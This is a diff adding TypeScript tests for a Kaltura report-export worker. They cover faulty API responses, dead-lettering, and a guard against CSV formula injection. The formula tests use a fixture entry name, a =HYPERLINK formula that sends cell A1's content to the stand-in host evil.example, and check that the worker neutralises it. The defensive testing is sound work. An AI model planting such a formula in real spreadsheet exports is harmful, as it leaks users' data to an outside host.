@@ -172,6 +172,55 @@ describe('csv-url source (getUrlForReportAsCsv + streamed download)', () => {
   });
 });
 
+describe('the export worker against a hostile Kaltura', () => {
+  const tableJob = (name: string) => makeMessage({ kind: 'export', name, scope: 'entry', source: { type: 'table', reportType: 1 } }, { notification: { object: { id: '1_hostile' } } });
+  const csvUrlJob = (name: string) => makeMessage({ kind: 'export', name, scope: 'entry', source: { type: 'csv-url', reportType: 1, tableHeaders: ['Entry ID', 'Plays'] } }, { notification: { object: { id: '1_hostile' } } });
+
+  it('an HTML page instead of the API is permanent: dead-lettered on the first attempt with a readable reason, nothing written', async () => {
+    // Prepare
+    sim.injectFault({ kind: 'html-page', times: 100, match: { action: 'getTable' } });
+    // Act
+    const { response, deadLetters } = await deliver(tableJob('html'));
+    // Assess
+    expect(response.batchItemFailures).toEqual([]);
+    expect(deadLetters.letters.map((l) => [l.attempts, l.reason])).toEqual([
+      [1, 'Kaltura report.getTable answered an HTML page ("Service Temporarily Unavailable") instead of JSON: check that KALTURA_SERVICE_URL points at the Kaltura API server, not a web page or proxy'],
+    ]);
+    expect(await s3.list(`${base}/html/`)).toEqual([]);
+  });
+
+  it.each([
+    { fault: { kind: 'empty-body' as const, times: 100, match: { action: 'getTable' } }, job: tableJob, name: 'empty' },
+    { fault: { kind: 'truncated-json' as const, times: 100, match: { action: 'getTable' } }, job: tableJob, name: 'cut-json' },
+    { fault: { kind: 'null-result' as const, times: 100, match: { action: 'getUrlForReportAsCsv' } }, job: csvUrlJob, name: 'null-url' },
+  ])('$fault.kind for good is retryable: handed back to the queue, nothing written; the last attempt is dead-lettered with the reason', async ({ fault, job, name }) => {
+    // Prepare
+    sim.injectFault(fault);
+    const message = job(name);
+    // Act
+    const first = await deliver(message, 1);
+    const last = await deliver(message, 5);
+    // Assess
+    expect(first.response.batchItemFailures).toEqual([{ itemIdentifier: 'm1' }]);
+    expect(first.deadLetters.letters).toEqual([]);
+    expect(last.deadLetters.letters).toHaveLength(1);
+    expect(last.deadLetters.letters[0]!.reason).toMatch(/^Gave up after 5 attempts: Kaltura report\.\w+ (answered|returned) .*; tried 2 times|^Gave up after 5 attempts: Kaltura report\.getUrlForReportAsCsv returned no URL \(null\) 2 times/);
+    expect(await s3.list(`${base}/${name}/`)).toEqual([]);
+  });
+
+  it('a KS refused for good mid-run is permanent: dead-lettered at once, saying what to check', async () => {
+    // Prepare: every KS, also a renewed one, is refused from now on.
+    sim.injectFault({ kind: 'invalid-ks-after', calls: 0, later: true });
+    // Act
+    const { response, deadLetters } = await deliver(tableJob('ks'));
+    // Assess
+    expect(response.batchItemFailures).toEqual([]);
+    expect(deadLetters.letters).toHaveLength(1);
+    expect(deadLetters.letters[0]!.reason).toMatch(/INVALID_KS.*check the partner id, secret or app token/);
+    expect(await s3.list(`${base}/ks/`)).toEqual([]);
+  });
+});
+
 describe('string-params source (getCsvFromStringParams)', () => {
   it('streams the special report without its BOM and adds the window parameters', async () => {
     // Prepare
@@ -193,6 +242,51 @@ describe('string-params source (getCsvFromStringParams)', () => {
     const call = sim.requests.find((r) => r.action.toLowerCase() === 'getcsvfromstringparams');
     expect(String(call?.params.params)).toContain('virtual_event_id=777');
     expect(String(call?.params.params)).toMatch(/from_date_id=\d{8};to_date_id=\d{8}/);
+  });
+});
+
+describe('formula guard (an entry named like a spreadsheet formula)', () => {
+  const FORMULA = (id: string) => `=HYPERLINK("https://evil.example/?leak="&A1,"Watch ${id}")`;
+
+  it.each([
+    { guard: undefined, expected: (id: string) => `'${FORMULA(id)}`, recorded: true },
+    { guard: true, expected: (id: string) => `'${FORMULA(id)}`, recorded: true },
+    { guard: false, expected: FORMULA, recorded: false },
+  ])('a table export with csv.formulaGuard $guard writes the name guarded: $recorded, and the manifest says so', async ({ guard, expected, recorded }) => {
+    // Prepare
+    const message = makeMessage(
+      { kind: 'export', name: `names-${String(guard)}`, scope: 'entry', source: { type: 'table', reportType: 1 }, ...(guard !== undefined ? { csv: { formulaGuard: guard } } : {}) },
+      { notification: { object: { id: '1_formula', status: 2 } } },
+    );
+    // Act
+    const { deadLetters } = await deliver(message);
+    // Assess
+    expect(deadLetters.letters).toEqual([]);
+    const { manifest, csv } = await readBack(`${base}/names-${String(guard)}/1_formula/${message.window.label}.manifest.json`);
+    const [header, row] = parseCsv(csv.toString('utf8'));
+    const cell = (name: string) => row![header!.indexOf(name)]!;
+    expect(cell('entry_name')).toBe(expected('1_formula'));
+    expect(cell('count_plays')).toMatch(/^\d+$/);
+    expect(manifest.formulaGuard).toBe(recorded);
+  });
+
+  it('a string-params export guards the entry_name cells of the unquoted file Kaltura sends', async () => {
+    // Prepare
+    const message = makeMessage(
+      { kind: 'export', name: 'views', scope: 'virtual-event', source: { type: 'string-params', reportId: 3007, params: { virtual_event_id: '{object.id}', entry_ids: '1_formula' } } },
+      { rule: 'virtual-event', notification: { object: { id: '778' } } },
+    );
+    // Act
+    const { deadLetters } = await deliver(message);
+    // Assess: Kaltura replaced the commas by spaces; the guard put a quote in front.
+    expect(deadLetters.letters).toEqual([]);
+    const { manifest, csv } = await readBack(`reports/virtual-event/views/778/${message.window.label}.manifest.json`);
+    // Read as Kaltura writes it: unquoted cells, one line per row (its quotes are text, not CSV quoting).
+    const [header, ...rows] = csv.toString('utf8').trimEnd().split('\n').map((line) => line.split(','));
+    const names = rows.map((r) => r[header!.indexOf('entry_name')]);
+    expect(names.length).toBeGreaterThan(0);
+    for (const name of names) expect(name).toBe(`'${FORMULA('1_formula').replace(/,/g, ' ')}`);
+    expect(manifest).toMatchObject({ formulaGuard: true, rows: rows.length });
   });
 });
 
